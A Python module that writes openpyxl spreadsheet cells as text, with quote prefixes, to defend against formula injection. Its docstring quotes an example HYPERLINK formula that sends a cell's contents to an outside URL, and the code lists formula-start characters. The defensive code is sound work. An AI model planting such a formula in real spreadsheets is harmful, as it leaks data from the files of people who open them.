"""The one way Styrkedja writes cells: what a user wrote is a text cell, never a formula.

A comment such as ``=HYPERLINK("http://…?d="&B2,"Se bilaga")`` written as a plain value
would become a live formula when the file is opened (formula injection, CWE-1236). Every
text is therefore written as a string cell; one that begins with a character that Excel or
LibreOffice reads as the start of a formula also gets Excel's quote prefix, so that it stays
text when someone edits the cell. The text itself is kept exactly, so a workbook read back
gives what was written.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# "=", "+", "-" and "@" start a formula; a tab or carriage return before them is skipped
# by some programs when a cell is pasted or re-entered (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_for_cell(text: str) -> str:
    """The text as a cell can hold it: XML 1.0 cannot carry most control characters."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def cell_write(worksheet: Worksheet, *, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into the cell; a text is always written as a text."""
    cell = worksheet.cell(row=row, column=column)
    if isinstance(value, str):
        text = text_for_cell(value)
        # Set past openpyxl's guess, which makes a text beginning with "=" a formula.
        cell._value = text
        cell.data_type = "s"
        if text.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def row_append(worksheet: Worksheet, values: Iterable[Any]) -> list[Cell]:
    """Write ``values`` into the row below the last one, as ``Worksheet.append`` does (an empty
    ``values`` leaves an empty row)."""
    row = worksheet._current_row + 1  # the row Worksheet.append would write
    cells = [
        cell_write(worksheet, row=row, column=column, value=value)
        for column, value in enumerate(values, start=1)
        if value is not None
    ]
    worksheet._current_row = row
    return cells
